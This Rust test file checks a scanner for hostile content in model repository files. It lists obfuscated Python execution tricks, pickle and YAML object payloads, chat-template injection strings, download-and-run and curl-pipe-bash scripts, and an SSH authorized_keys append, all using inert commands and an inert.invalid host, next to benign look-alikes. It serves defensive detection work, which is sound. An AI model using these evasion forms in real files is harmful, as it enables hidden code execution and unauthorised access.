//! Attacks of odd shapes that are found, and harmless files that look like them.

mod told;

#[test]
fn hidden_names_in_python_are_refused() {
    told::all_refused(&[
        ("x.py", "import pickle\npickle.loads(b'cposix\\nsystem\\n(Vecho inert\\ntR.')\n"),
        ("modeling_x.py", "import pickle\npickle.loads(b'cos\\nsystem\\n.')\n"),
        ("x.py", "().__class__.__base__.__subclasses__()[9]('echo inert')\n"),
        ("x.py", "(lambda o: o.system('echo inert'))(__import__('os'))\n"),
        ("x.py", "print.__self__.exec(\"import os\\nos.system('echo inert')\")\n"),
        ("x.py", "__import__.__call__('os').system('echo inert')\n"),
        ("x.py", "import runpy\nrunpy.run_path('/nonexistent/inert.py')\n"),
        ("x.py", "eval(compile(\"print('inert')\", 'x', 'exec'))\n"),
        ("x.py", "import sys\nsys.modules['os'].system('echo inert')\n"),
        ("x.py", "x = 1\r\nimport os\r\nos.system('echo inert')\r\n"),
        ("x.py", "\u{c}import os\n\u{c}os.system('echo inert')\n"),
        ("x.py", "# -*- coding: rot13 -*-\nvzcbeg bf\nbf.flfgrz('rpub vareg')\n"),
        ("x.py", "# coding: unicode_escape\nimport os\\nos.system('echo inert')\n"),
        ("x.py", "# coding: utf-7\nimport os+AAo-os.system('echo inert')\n"),
        ("x.py", "import os\nif (r := os.system('echo inert')): pass\n"),
        ("x.py", "import os\ny = f\"{os.system('echo inert')}\"\n"),
        ("x.py", "import os\nT = type('X', (), {'a': os.system('echo inert')})\n"),
        ("x.py", "import os\nf = lambda a=os.system('echo inert'): a\n"),
        ("x.py", "import os\ndef __getattr__(n):\n    pass\nx = os.system('echo inert')\n"),
    ]);
}

#[test]
fn hidden_configurations_and_scripts_are_refused() {
    let spaced =
        format!("{}{{\"chat_template\": \"{{{{ ''.__class__.__mro__ }}}}\"}}", "\n".repeat(9000));
    told::all_refused(&[
        ("tokenizer_config.json", &spaced),
        ("tokenizer_config.json", "\u{feff}{\"chat_template\": \"{{ ''.__class__ }}\"}"),
        (
            "tokenizer_config.json",
            r#"{"chat_template": "{{ ''.__class__ }}", "chat_template": "plain"}"#,
        ),
        ("chat_template.json", r#"{"chat_template": "{{ x.__globals__ }}"}"#),
        ("processor_config.json", r#"{"chat_template": "{{ x.__globals__ }}"}"#),
        ("hparams.txt", "run: !!python/object/apply:os.system ['echo inert']\n"),
        ("hparams.yaml", "a: &a !!python/object/apply:os.system ['echo inert']\nb:\n  <<: *a\n"),
        ("weights.bin", "#!/bin/sh\necho inert\n"),
        ("config.json", "#!/bin/bash\necho inert\n"),
        ("vocab.txt", "#!/usr/bin/env python3\nprint('inert')\n"),
        (
            "install.bat",
            "@echo off\r\ncurl -o inert.exe http://inert.invalid/x\r\nstart inert.exe\r\n",
        ),
        ("setup.sh", "curl -s http://inert.invalid/x | bash\n"),
        ("setup.sh", "curl -s https://inert.invalid/x | bash\n"),
        ("setup.sh", "echo key >> ~/.ssh/authorized_keys\n"),
    ]);
}

#[test]
fn configurations_are_read_as_any_parser_takes_them() {
    let text = r#"{"model": {"_target_": "os.system", "_args_": ["echo inert"]}}"#;
    let big: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let little: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let wide: Vec<u8> = text.chars().flat_map(|sign| (sign as u32).to_le_bytes()).collect();
    for bytes in [&big, &little, &wide, &[&b"\xff\xfe"[..], &little].concat()] {
        assert!(told::is_refused(&told::of("config.json", bytes.clone())));
        assert!(told::is_refused(&told::of("model.bin", bytes.clone())));
    }
    told::all_refused(&[
        ("x.json", "{ // don't \"\n\"_target_\": \"os.system\"}"),
        ("x.json", "{ /* \" */ \"_target_\": \"os.system\"}"),
        ("x.json", "{ # \"\n\"_target_\": \"os.system\"}"),
        ("x.json", "{ _target_: 'os.system' }"),
        ("x.json", "{\"a\": NaN, \"_target_\" /**/ : \"os.system\",}"),
        ("x.jsonl", "{\"a\": 1}\n{\"_target_\": \"os.system\"}\n"),
        ("x.json", "{\"_target_\": \"os.system\", \"a\": \"cu"),
    ]);
    told::none_refused(&[
        ("x.json", "{ // \"_target_\": \"os.system\"\n\"a\": 1}"),
        ("x.json", "{ /* \"_target_\": \"os.system\" */ \"a\": 1}"),
    ]);
}

#[test]
fn python_that_looks_like_an_attack_is_not_refused() {
    told::none_refused(&[
        ("x.py", "import pickle\ndef f(b):\n    return pickle.loads(b)\n"),
        ("x.py", "import pickle\ndef f(x):\n    return pickle.loads(pickle.dumps(x))\n"),
        ("x.py", "def all_of(cls):\n    return cls.__subclasses__()\n"),
        ("x.py", "class A: pass\nnames = [c.__name__ for c in A.__subclasses__()]\n"),
        ("x.py", "f = (lambda x: x + 1)(2)\n"),
        ("x.py", "import json\nd = json.loads('{}')\n"),
        ("x.py", "import runpy\nif __name__ == '__main__':\n    runpy.run_module('pkg')\n"),
        ("x.py", "class A:\n    def __call__(self):\n        return super().__call__()\n"),
        ("x.py", "import subprocess\nsubprocess.run('python -m tf2onnx.convert --a b'.split())\n"),
        ("x.py", "import os\nos.system('python -m tf2onnx.convert --opset 13')\n"),
        ("x.py", "import subprocess\nsubprocess.check_output(['grep', '.pyc'])\n"),
        ("x.py", "import subprocess\nsubprocess.check_output(['find', '.', '-type', 'f'])\n"),
        ("x.py", "import sys\nm = sys.modules[__name__]\n"),
        ("x.py", "# -*- coding: utf-8 -*-\nx = 1\n"),
        ("x.py", "# -*- coding: latin-1 -*-\nx = 1\n"),
        ("x.py", "def __getattr__(name):\n    raise AttributeError(name)\n"),
        ("x.py", "T = type('X', (), {})\n"),
        ("x.py", "f = lambda a=1: a\n"),
        ("x.py", "if (n := len('a')) > 1: pass\n"),
        ("x.py", "x = 1\r\n\u{c}\r\ny = 2\r\n"),
    ]);
}

#[test]
fn texts_and_scripts_of_real_kinds_are_not_refused() {
    let published = "wget -qO- https://raw.githubusercontent.com/a/b/master/valprep.sh | bash\n";
    told::none_refused(&[
        ("get_imagenet.sh", published),
        ("bootstrap.sh", "cat \"${key}\" > \"${authorized_keys_path}\"\n"),
        ("notes.txt", "PyYAML builds objects by tags such as !!python/object/apply:os.system\n"),
        ("vocab.txt", "#!\n#\n!\n[PAD]\n"),
        ("vocab.txt", "[PAD]\n#!/bin/sh\n"),
        ("run.sh", "#!/bin/sh\necho inert\n"),
        ("run", "#!/usr/bin/env python3\nprint('inert')\n"),
        ("build.bat", "@echo off\r\ncurl -o data.zip https://example.org/data.zip\r\n"),
        ("build.bat", "@echo off\r\npython.exe setup.py\r\n"),
        ("config.json", "\n\n\n{\"a\": 1}\n"),
    ]);
}
